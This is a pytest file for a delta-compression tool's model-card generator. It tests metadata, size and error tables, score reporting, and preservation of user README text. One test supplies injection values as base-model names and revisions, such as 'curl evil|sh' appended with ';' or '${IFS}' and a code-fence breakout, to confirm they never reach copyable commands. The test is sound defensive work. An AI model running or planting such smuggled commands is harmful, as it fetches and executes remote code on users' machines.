"""The model card: what the Hub reads from it, its tables, and whose scores it takes."""

import dataclasses
import shutil

import make_golden as golden
import pytest
import yaml
from huggingface_hub import ModelCard

from deltacome.errors import ArtifactError, MismatchError
from deltacome.format.artifact import Artifact
from deltacome.format.card import model_card


@pytest.fixture
def artifact(tmp_path):
    opened = Artifact.open(shutil.copytree(golden.GOLDEN, tmp_path / "mine"))
    records = opened.manifest.records
    packed = [name for name, record in records.items() if record.plan]
    for name, error in zip(packed, (0.25, 0.75), strict=False):
        records[name] = dataclasses.replace(records[name], error=error)
    return opened


def metadata(card):
    return yaml.safe_load(str(card).split("---\n")[1])


def scored(artifact, **more):
    return {
        "task": "/home/me/sums.jsonl",
        "n": 200,
        "models": [
            {"name": "base", "score": 0.0, "kl_task": 1.25, "kl_text": 0.5},
            {"name": "tuned", "score": 0.875, "kl_task": 0.0, "kl_text": 0.0},
            {"name": "other", "artifact": "1" * 64, "score": 0.111, "kl_task": 9.0, "kl_text": 9.0},
            {
                "name": "mine",
                "artifact": artifact.digest,
                "score": 0.8625,
                "kl_task": 0.00125,
                "kl_text": None,
            },
        ],
    } | more


def test_metadata(artifact):
    said = metadata(model_card(artifact))
    assert said == {
        "base_model": "some/base",
        "base_model_relation": "adapter",
        "library_name": "deltacome",
        "tags": ["deltacome", "delta-compression"],
    }


@pytest.mark.parametrize("where", ["models/base", "./base", None])
def test_a_base_on_one_machine_is_no_link(artifact, tmp_path, where):
    artifact.manifest = dataclasses.replace(
        artifact.manifest, base_name_or_path=where or str(tmp_path / "base"), base_revision=None
    )
    card = model_card(artifact, "org/name")
    assert "base_model" not in metadata(card)
    assert str(tmp_path) not in str(card)
    assert "changed in `base`" in card.text
    assert "deltacome merge BASE org/name" in card.text


def test_sizes_and_errors(artifact):
    text = str(model_card(artifact))
    said = artifact.describe()
    assert f"| this artifact on disk | {said['bytes_on_disk']:,} bytes |" in text
    assert f"| ratio, everything counted | {said['ratio']:.2f} |" in text
    exact = [t["bytes"] for t in said["tensors"] if t["kind"] == "exact"]
    assert f"| tensors held as `exact` | {len(exact)}, {sum(exact):,} bytes |" in text
    rows = [line for line in text.splitlines() if line.startswith("| `")]
    errors = [r.error for r in artifact.manifest.records.values() if r.packed]
    assert len(rows) == len([error for error in errors if error is not None])
    assert any(row.endswith("| 0.75 | 0.75 |") for row in rows)
    assert "X is its calibration inputs, or the identity where there were none." in text


def test_what_a_plan_left_out_is_said(artifact):
    records = artifact.manifest.records
    name = next(name for name, r in records.items() if r.plan and not r.exact_rows)
    records[name] = dataclasses.replace(records[name], plan=(), sign_scales=None, error=1.0)
    text = str(model_card(artifact))
    assert "| tensors held as `dropped` | 1, 0 bytes |" in text
    assert any(line.endswith("| 1 | 0 | 1 | 1 |") for line in text.splitlines())
    assert "dropped" in {tensor["kind"] for tensor in artifact.describe()["tensors"]}


def test_one_row_for_a_projection(artifact):
    record = next(r for r in artifact.manifest.records.values() if r.plan)
    for layer, error in enumerate((0.25, 0.75)):
        name = f"model.layers.{layer}.mlp.experts.{layer}.up.weight"
        artifact.manifest.records[name] = dataclasses.replace(record, name=name, error=error)
    size = 2 * record.nbytes(artifact.manifest.group_size)
    row = f"| `model.layers.*.mlp.experts.*.up.weight` | 2 | {size:,} | 0.5 | 0.75 |"
    assert row in str(model_card(artifact))


def test_scores(artifact):
    card = model_card(artifact, "org/name", [scored(artifact)])
    assert "| sums.jsonl | exact match, 200 questions | 0 | 0.875 | 0.8625 |" in card.text
    assert "| sums.jsonl | KL on the task, 200 questions | 1.25 | 0 | 0.00125 |" in card.text
    assert "general text" not in card.text  # not measured
    assert "/home" not in str(card)
    assert "0.111" not in str(card)
    (model,) = metadata(card)["model-index"]
    assert model["name"] == "name"
    values = {m["type"]: m["value"] for r in model["results"] for m in r["metrics"]}
    assert values == {"exact_match": 0.8625, "kl_task": 0.00125}
    again = ModelCard(str(card))  # as the Hub reads it
    assert {result.metric_value for result in again.data.eval_results} == {0.8625, 0.00125}


def test_scores_of_the_harness(artifact):
    result = {
        "tasks": ["gsm8k"],
        "models": [
            {"name": "base", "results": {"gsm8k": {"exact_match,strict-match": 0.1}}},
            {
                "name": "mine",
                "artifact": artifact.digest,
                "results": {
                    "gsm8k": {"exact_match,strict-match": 0.5, "exact_match_stderr,strict": 0.01}
                },
            },
        ],
    }
    card = model_card(artifact, "org/name", [scored(artifact), result])
    assert "| gsm8k | exact_match,strict-match | 0.1 | – | 0.5 |" in card.text
    assert "stderr" not in str(card)
    assert len(metadata(card)["model-index"][0]["results"]) == 2


@pytest.mark.parametrize(
    ("config", "model"),
    [
        ({}, 'AutoModelForCausalLM.from_pretrained("some/base", revision='),
        ({"architectures": ["LlamaForCausalLM"]}, "AutoModelForCausalLM."),
        ({"architectures": ["LlavaForConditionalGeneration"]}, 'deltacome.base_for("some/base@'),
        ({"architectures": 7}, "AutoModelForCausalLM."),
    ],
)
def test_the_base_is_made_a_model_of_the_tuned_class(artifact, monkeypatch, config, model):
    monkeypatch.setattr(type(artifact), "json_file", lambda self, name: config)
    text = model_card(artifact, "org/name").text
    assert f"\nmodel = {model}" in text
    assert ("import AutoModelForCausalLM" in text) == ("Auto" in model)
    assert 'with deltacome.attach(model, "org/name"):' in text


@pytest.mark.parametrize(
    ("result", "reason"),
    [
        ({"models": []}, "got those of none"),
        ({"models": [{"name": "other", "artifact": "1" * 64}]}, "got those of other"),
        ({"model": []}, "eval --json"),
        ([1, 2], "eval --json"),
        ({"models": [1]}, "eval --json"),
        ({"task": "x", "models": [{"name": "d", "artifact": None}]}, "got KeyError\\('n'\\)"),
        (
            {"task": "x", "n": 1, "models": [{"name": "base", "score": "high"}, {"name": "d"}]},
            "eval",
        ),
    ],
)
def test_scores_of_something_else(artifact, result, reason):
    for row in result["models"][-1:] if "task" in result else ():
        row |= {"artifact": artifact.digest, "score": 0.5}
    with pytest.raises(MismatchError, match=reason):
        model_card(artifact, scores=[result])


def test_own_words_stay(artifact):
    own = "---\nlicense: mit\ntags:\n- mine\n---\n\n# My model\n\nMade of love.\n"
    (artifact.path / "README.md").write_text(own)
    card = artifact.generate_model_card(name="org/name", scores=[scored(artifact)])
    said = metadata(card)
    assert (said["license"], said["base_model"]) == ("mit", "some/base")
    assert said["tags"] == ["mine", "deltacome", "delta-compression"]
    assert said["model-index"][0]["results"]
    assert card.text.strip() == "# My model\n\nMade of love."
    # A card that compression wrote is no user's own, and is written anew.
    (artifact.path / "README.md").write_text(str(model_card(artifact)) + "Lost.\n")
    assert "Lost" not in str(artifact.generate_model_card())
    assert "org/name" in artifact.generate_model_card(name="org/name").text


def test_own_words_that_cannot_be_read(artifact):
    (artifact.path / "README.md").write_bytes("# Café\n".encode("latin-1"))
    with pytest.raises(ArtifactError, match=r"README\.md: not valid UTF-8"):
        artifact.generate_model_card()


@pytest.mark.parametrize(
    ("base", "revision"),
    [
        ("org/x; curl evil|sh #", "a1"),
        ("org/x@main", "a1"),
        ("org/x", "a1;curl${IFS}evil|sh"),
        ('x"); import os #', "a1"),
        ("x`\n```bash\ncurl evil|sh\n```\n", "a1"),
    ],
)
def test_what_is_no_name_is_not_written_into_commands(artifact, base, revision):
    """Readers copy the commands, and the artifact may be anybody's."""
    artifact.manifest = dataclasses.replace(
        artifact.manifest, base_name_or_path=base, base_revision=revision
    )
    card = model_card(artifact, "org/name")
    code = card.text.partition("```bash")[2]
    assert "deltacome merge BASE org/name" in code
    assert not [bad for bad in ("curl", "import os", "@main") if bad in code]
    assert card.text.count("```bash") == 1
    assert "base_model" not in metadata(card)


def test_names_do_not_end_the_cell_or_the_code_that_they_are_in(artifact):
    records = artifact.manifest.records
    record = next(r for r in records.values() if r.error is not None)
    name = "a` | <b>\n| b"
    records[name] = dataclasses.replace(record, name=name)
    artifact.manifest.method["also`\n# yes"] = "x`\n# no"
    text = str(model_card(artifact))
    assert "| `a� � <b>�� b` | 1 |" in text
    assert "`also��# yes` `x��# no`" in text
